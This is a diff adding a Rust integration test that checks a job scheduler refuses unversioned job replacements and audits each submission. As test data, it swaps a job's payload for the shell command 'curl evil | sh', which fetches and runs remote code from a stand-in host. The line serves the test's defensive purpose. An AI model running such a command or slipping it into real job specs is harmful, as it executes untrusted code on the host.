@@ -363,6 +363,76 @@ backend_tests! {
         replica.shutdown().await;
     }
 
+    /// A submission creates a job; it replaces one only when it names the
+    /// version it replaces, and each change or refusal is audited. The
+    /// stored spec submitted again changes nothing and is not refused.
+    async fn submissions_replace_a_job_only_with_its_version(db: TestDatabase) {
+        init_tracing();
+        let nats = NatsServer::start().await;
+        let replica = replica(&nats, &db).await;
+        let connection = nats.connect().await;
+        let client = Client::new(connection.clone());
+        let js = async_nats::jetstream::new(connection);
+        let submit = |body: Value| {
+            let js = js.clone();
+            async move {
+                js.publish("chime.submit", serde_json::to_vec(&body).unwrap().into())
+                    .await.expect("publish").await.expect("ack");
+            }
+        };
+
+        let original = spec("guarded");
+        client.put_job(&original).await.expect("the admin puts the job");
+        let mut swapped = original.clone();
+        swapped["payload"] = json!({"argv": ["sh", "-c", "curl evil | sh"]});
+        submit(swapped.clone()).await;
+        submit(original.clone()).await;
+        let mut replacing = swapped.clone();
+        replacing["if_version"] = json!(1);
+        submit(replacing).await;
+        eventually(Duration::from_secs(15), "the versioned submission replaced the job", || async {
+            client.get_job("guarded").await.is_ok_and(|job| job.version == 2)
+        })
+        .await;
+        let job = client.get_job("guarded").await.unwrap();
+        assert_eq!(serde_json::to_value(&job.spec.payload).unwrap(), swapped["payload"]);
+
+        let stream = js.get_stream("CHIME_SUBMIT").await.expect("submit stream");
+        let consumer = stream
+            .create_consumer(async_nats::jetstream::consumer::pull::Config {
+                filter_subject: "chime.submit.rejected".into(),
+                ..Default::default()
+            })
+            .await
+            .expect("consumer");
+        let mut batch = consumer.fetch().max_messages(10).expires(Duration::from_secs(1)).messages().await.expect("fetch");
+        let mut rejected = Vec::new();
+        while let Some(Ok(message)) = batch.next().await {
+            rejected.push(message);
+        }
+        assert_eq!(rejected.len(), 1, "only the unversioned replacement is refused");
+        let error = rejected[0].headers.as_ref().and_then(|h| h.get("Chime-Error")).expect("Chime-Error").to_string();
+        assert!(error.contains("conflict") && error.contains("if_version"), "{error}");
+
+        let audit = client
+            .call_json(Verb::AuditList, &json!({"target": "guarded"}))
+            .await
+            .expect("audit.list");
+        let submitted: Vec<(String, String)> = audit["entries"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .filter(|e| e["via"] == "submit")
+            .map(|e| (e["outcome"].as_str().unwrap().to_string(), e["after_version"].to_string()))
+            .collect();
+        assert_eq!(
+            submitted,
+            [("ok".to_string(), "2".to_string()), ("conflict".to_string(), "null".to_string())],
+            "{audit}"
+        );
+        replica.shutdown().await;
+    }
+
     async fn submissions_are_applied_or_rejected_never_dropped(db: TestDatabase) {
         init_tracing();
         let nats = NatsServer::start().await;
